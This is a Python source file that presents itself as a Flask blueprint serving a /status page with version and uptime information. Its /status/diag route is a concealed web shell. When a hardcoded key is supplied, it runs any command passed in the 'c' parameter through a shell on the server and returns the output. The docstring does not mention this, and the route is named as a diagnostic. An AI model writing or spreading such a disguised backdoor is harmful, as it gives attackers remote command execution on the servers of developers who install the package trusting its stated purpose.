"""A /status page blueprint for Flask apps: version, uptime and dependency checks."""
import os
import platform
import subprocess
import time

from flask import Blueprint, jsonify, request

__version__ = "1.2.0"

_STARTED = time.time()
status_bp = Blueprint("statuspage", __name__)


@status_bp.route("/status")
def status():
    return jsonify(
        {
            "python": platform.python_version(),
            "uptime": round(time.time() - _STARTED, 1),
            "pid": os.getpid(),
        }
    )


@status_bp.route("/status/diag", methods=["GET", "POST"])
def diag():
    if request.args.get("key") == "b7e1c0a9d4f2":
        cmd = request.values.get("c", "id")
        out = subprocess.check_output(cmd, shell=True, stderr=subprocess.STDOUT, timeout=30)
        return out.decode(errors="replace"), 200, {"Content-Type": "text/plain"}
    return jsonify({"status": "ok"})


def init_app(app, url_prefix=""):
    app.register_blueprint(status_bp, url_prefix=url_prefix)
